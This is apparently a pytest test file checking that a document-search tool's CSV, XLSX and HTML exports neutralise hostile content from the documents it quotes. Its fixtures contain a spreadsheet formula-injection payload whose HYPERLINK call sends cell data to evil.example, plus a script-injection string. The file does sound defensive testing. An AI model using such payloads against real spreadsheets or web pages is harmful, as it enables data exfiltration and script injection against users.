from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from zipfile import ZipFile

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from doors.command_line import HASH, run, write_files
from quoth.documents.formats.xlsx.xlsx_document import extract
from quoth.grid.grid_workbook import LONGEST_TEXT, cell_xml, column_name
from quoth.grid.write_grid import disarmed

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1, "Sow canola")'
SCRIPT = "Sow canola at <b>2</b> cm </script><script>alert(1)</script> & roll."
DOCUMENTS: dict[str, bytes | str] = {
    "-1+2.txt": FORMULA,
    "script.txt": SCRIPT,
    "escape.txt": "Sow canola at _x0041_ cm\x07 into \U0001f33e soil.",
}


@pytest.fixture(scope="module")
def grids(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a grid in every format, made of documents that would harm a careless reader."""
    place = tmp_path_factory.mktemp("hostile")
    write_files(place / "docs", DOCUMENTS)
    (place / "q.txt").write_text("@SUM(canola)\nSow canola <i>\n", encoding="utf-8")
    assert run("ingest", place / "docs", "--index", place / "index").code == 0
    for suffix in ("jsonl", "csv", "xlsx", "html"):
        ran = run(
            *("grid", place / "q.txt", "--index", place / "index", "-o", place / f"grid.{suffix}"),
            *("--set", "decision.abstain=false"),
            variables=HASH,
        )
        assert ran.code == 0, ran.talk
    return place


def _quotes(grids: Path) -> dict[str, str]:
    lines = map(json.loads, (grids / "grid.jsonl").read_text(encoding="utf-8").splitlines())
    return {line["doc_id"]: line["answer_sentences"][0]["text"] for line in lines if line["answer_sentences"]}


def _rearmed(text: str) -> str:
    """Read a cell of the CSV back as its documentation says."""
    return text[1:] if re.match(r"'+[=+\-@\t\r]", text) else text


def test_no_cell_of_a_csv_is_a_formula_and_each_can_be_read_back(grids: Path) -> None:
    content = (grids / "grid.csv").read_bytes()
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]
    assert [_rearmed(cell) for cell in rows[0]] == ["document", "title", "@SUM(canola)", "Sow canola <i>"]
    quotes = {_rearmed(row[0]): _rearmed(row[3]).rpartition("\n")[0] for row in rows[1:]}
    assert quotes == _quotes(grids)
    assert quotes["-1+2.txt"] == FORMULA


@given(st.text(alphabet="'=+-@\t\r\na1"))
def test_what_disarms_a_formula_can_be_taken_back(text: str) -> None:
    written = disarmed(text)

    assert written[:1] not in tuple("=+-@\t\r")
    assert _rearmed(written) == text


def test_a_workbook_holds_texts_and_no_formula(grids: Path) -> None:
    with ZipFile(grids / "grid.xlsx") as archive:
        parts = {name: etree.fromstring(archive.read(name)) for name in archive.namelist()}
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    for name in ("xl/worksheets/sheet1.xml", "xl/worksheets/sheet2.xml"):
        assert not parts[name].findall(f".//{main}f")
        texts = [cell.findtext(f".//{main}t") for cell in parts[name].iter(f"{main}c") if cell.get("t")]
        assert {cell.get("t") for cell in parts[name].iter(f"{main}c")} <= {"inlineStr", None}
        assert any((text or "").startswith(FORMULA) for text in texts)


def test_a_workbook_is_read_back_as_it_was_written(grids: Path) -> None:
    text = extract((grids / "grid.xlsx").read_bytes()).text

    assert FORMULA in text
    assert SCRIPT in text
    assert "_x0041_" in text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a < b & c > d", "a &lt; b &amp; c &gt; d"),
        ("bell\x07, tab\t, line\r\n", "bell_x0007_, tab\t, line_x000D_\n"),
        ("_x0041_ and _y", "_x005F_x0041_ and _y"),
        ("\ufffe\ud800", "_xFFFE__xD800_"),
        ("\U0001f33e" * LONGEST_TEXT, None),
    ],
)
def test_what_xml_cannot_hold_is_escaped_as_spreadsheets_do(text: str, written: str | None) -> None:
    found = cell_xml(text)

    if written is None:
        assert len(found.encode("utf-16-le")) // 2 <= LONGEST_TEXT
        assert found.startswith("\U0001f33e" * 16_000)
        assert found.endswith("holds no more]")
    else:
        assert found == written
    etree.fromstring(f"<t>{found}</t>")


def test_columns_are_named_as_in_a_spreadsheet() -> None:
    assert [column_name(number) for number in (1, 26, 27, 52, 703, 16_384)] == ["A", "Z", "AA", "AZ", "AAA", "XFD"]


def test_a_page_shows_what_documents_say_and_runs_none_of_it(grids: Path) -> None:
    page = (grids / "grid.html").read_text(encoding="utf-8")

    assert "alert(1)</script>" not in page
    assert page.count("<script") == 2
    assert "Sow canola &lt;i&gt;" in page
    assert not re.search(r"""(src|href)=["'](?!#)""", page)
    (data,) = re.findall(r'<script type="application/json" id="details">(.*?)</script>', page, re.DOTALL)
    shown = {quote["text"] for row in json.loads(data) for cell in row for quote in cell["quotes"]}
    assert shown >= {SCRIPT, FORMULA}
